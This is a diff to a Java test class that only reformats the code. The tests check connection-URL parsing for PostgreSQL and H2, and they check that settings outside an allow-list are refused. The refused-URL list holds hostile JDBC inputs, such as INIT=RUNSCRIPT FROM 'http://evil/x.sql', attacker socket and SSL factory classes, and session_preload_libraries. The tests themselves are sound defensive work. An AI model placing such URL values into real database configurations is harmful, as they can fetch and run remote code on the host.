@@ -21,9 +21,10 @@ class ConnectionUrlTest {
         ConnectionUrl url =
                 ConnectionUrl.parse(
                         "postgresql://ann:s%40fe@db.example:6432/my%20shop?sslmode=verify-full&sslrootcert=/ca.pem"
-                                + "&statement_timeout=5s&application_name=x");
+                            + "&statement_timeout=5s&application_name=x");
         ConnectionSettings settings = url.settings();
-        assertThat(settings.location()).isEqualTo(new Location.PostgreSql("db.example", 6432, "my shop"));
+        assertThat(settings.location())
+                .isEqualTo(new Location.PostgreSql("db.example", 6432, "my shop"));
         assertThat(settings.user()).isEqualTo("ann");
         assertThat(url.password()).isEqualTo("s@fe");
         assertThat(settings.tls()).isEqualTo(new Tls(Tls.Mode.VERIFY_FULL, "/ca.pem", null, null));
@@ -34,8 +35,10 @@ class ConnectionUrlTest {
     @Test
     void theDriversOwnUrlIsReadToo() {
         ConnectionUrl url =
-                ConnectionUrl.parse("jdbc:postgresql://[::1]/shop?user=ann&password=x&currentSchema=app&readOnly=true");
-        assertThat(url.settings().location()).isEqualTo(new Location.PostgreSql("::1", 5432, "shop"));
+                ConnectionUrl.parse(
+                        "jdbc:postgresql://[::1]/shop?user=ann&password=x&currentSchema=app&readOnly=true");
+        assertThat(url.settings().location())
+                .isEqualTo(new Location.PostgreSql("::1", 5432, "shop"));
         assertThat(url.settings().user()).isEqualTo("ann");
         assertThat(url.settings().readOnly()).isTrue();
         assertThat(url.settings().session()).isEqualTo(Map.of("search_path", "app"));
@@ -43,11 +46,14 @@ class ConnectionUrlTest {
 
     @Test
     void h2UrlsOfFilesMemoryAndServersAreRead() {
-        ConnectionUrl file = ConnectionUrl.parse("jdbc:h2:file:/data/shop;MODE=PostgreSQL;USER=sa;PASSWORD=pw;IFEXISTS=TRUE");
+        ConnectionUrl file =
+                ConnectionUrl.parse(
+                        "jdbc:h2:file:/data/shop;MODE=PostgreSQL;USER=sa;PASSWORD=pw;IFEXISTS=TRUE");
         assertThat(file.settings().location()).isEqualTo(new Location.H2File("/data/shop"));
         assertThat(file.settings().session()).isEqualTo(Map.of("MODE", "PostgreSQL"));
         assertThat(file.password()).isEqualTo("pw");
-        assertThat(ConnectionUrl.parse("jdbc:h2:~/shop").settings().location()).isEqualTo(new Location.H2File("~/shop"));
+        assertThat(ConnectionUrl.parse("jdbc:h2:~/shop").settings().location())
+                .isEqualTo(new Location.H2File("~/shop"));
         assertThat(ConnectionUrl.parse("jdbc:h2:mem:test;DB_CLOSE_DELAY=-1").settings().location())
                 .isEqualTo(new Location.H2Memory("test"));
         assertThat(ConnectionUrl.parse("jdbc:h2:tcp://box:9999/~/shop").settings().location())
@@ -55,38 +61,56 @@ class ConnectionUrlTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
-        "jdbc:h2:file:/x;TRACE_LEVEL_FILE=4",
-        "jdbc:h2:file:/x;AUTO_SERVER=TRUE",
-        "jdbc:h2:file:/x;MODE=PostgreSQL;INIT=x",
-        "jdbc:postgresql://h/d?socketFactory=org.Evil&socketFactoryArg=http://evil",
-        "jdbc:postgresql://h/d?sslfactory=org.Evil",
-        "jdbc:postgresql://h/d?preferQueryMode=simple",
-        "jdbc:postgresql://h/d?authenticationPluginClassName=org.Evil",
-        "jdbc:postgresql://h/d?loggerFile=/tmp/x",
-        "postgresql://h/d?host=other",
-        "postgresql://h/d?hostaddr=10.0.0.1",
-        "postgresql://h/d?options=-c%20session_preload_libraries%3Dx",
-        "postgresql://h/d?service=other",
-    })
+    @ValueSource(
+            strings = {
+                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+                "jdbc:h2:file:/x;TRACE_LEVEL_FILE=4",
+                "jdbc:h2:file:/x;AUTO_SERVER=TRUE",
+                "jdbc:h2:file:/x;MODE=PostgreSQL;INIT=x",
+                "jdbc:postgresql://h/d?socketFactory=org.Evil&socketFactoryArg=http://evil",
+                "jdbc:postgresql://h/d?sslfactory=org.Evil",
+                "jdbc:postgresql://h/d?preferQueryMode=simple",
+                "jdbc:postgresql://h/d?authenticationPluginClassName=org.Evil",
+                "jdbc:postgresql://h/d?loggerFile=/tmp/x",
+                "postgresql://h/d?host=other",
+                "postgresql://h/d?hostaddr=10.0.0.1",
+                "postgresql://h/d?options=-c%20session_preload_libraries%3Dx",
+                "postgresql://h/d?service=other",
+            })
     void settingsOutsideTheAllowListAreRefusedByName(String url) {
         assertThatThrownBy(() -> ConnectionUrl.parse(url))
                 .isInstanceOf(ProblemException.class)
                 .hasMessageContaining("BIN-114")
                 .satisfies(refused -> {
-                    String query = url.substring(Math.max(url.lastIndexOf(';'), url.indexOf('?')) + 1);
-                    assertThat(refused.getMessage()).contains(query.substring(0, query.indexOf('=')));
+                    String query =
+                            url.substring(Math.max(url.lastIndexOf(';'), url.indexOf('?')) + 1);
+                    assertThat(refused.getMessage())
+                            .contains(query.substring(0, query.indexOf('=')));
                 });
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-        "", "mysql://h/d", "jdbc:h2:zip:/a.zip!/x", "jdbc:h2:nio:/x", "jdbc:h2:split:/x", "jdbc:h2:",
-        "postgresql://a,b/d", "postgresql://h1:1,h2:2/d", "jdbc:postgresql://ann@h/d", "postgresql://h:99999/d",
-        "postgresql://h:x/d", "postgresql://h/%zz", "postgresql://h/a b", "postgresql://h/d%00x", "postgresql://h/",
-        "postgresql://ann:secret@h h/d", "jdbc:h2:tcp://a,b/x", "jdbc:h2:tcp://h"
-    })
+    @ValueSource(
+            strings = {
+                "",
+                "mysql://h/d",
+                "jdbc:h2:zip:/a.zip!/x",
+                "jdbc:h2:nio:/x",
+                "jdbc:h2:split:/x",
+                "jdbc:h2:",
+                "postgresql://a,b/d",
+                "postgresql://h1:1,h2:2/d",
+                "jdbc:postgresql://ann@h/d",
+                "postgresql://h:99999/d",
+                "postgresql://h:x/d",
+                "postgresql://h/%zz",
+                "postgresql://h/a b",
+                "postgresql://h/d%00x",
+                "postgresql://h/",
+                "postgresql://ann:secret@h h/d",
+                "jdbc:h2:tcp://a,b/x",
+                "jdbc:h2:tcp://h"
+            })
     void whatIsNoConnectionIsRefusedWithoutRepeatingSecrets(String url) {
         assertThatThrownBy(() -> ConnectionUrl.parse(url))
                 .isInstanceOf(ProblemException.class)
@@ -106,10 +130,12 @@ class ConnectionUrlTest {
             try {
                 ConnectionUrl url = ConnectionUrl.parse("postgresql://shown.example/" + noise);
                 assertThat(url.settings().location())
-                        .isInstanceOfSatisfying(Location.PostgreSql.class, location -> {
-                            assertThat(location.host()).isEqualTo("shown.example");
-                            assertThat(location.port()).isEqualTo(5432);
-                        });
+                        .isInstanceOfSatisfying(
+                                Location.PostgreSql.class,
+                                location -> {
+                                    assertThat(location.host()).isEqualTo("shown.example");
+                                    assertThat(location.port()).isEqualTo(5432);
+                                });
                 read++;
             } catch (ProblemException refused) {
                 assertThat(refused.problem().code().id()).startsWith("BIN-1");
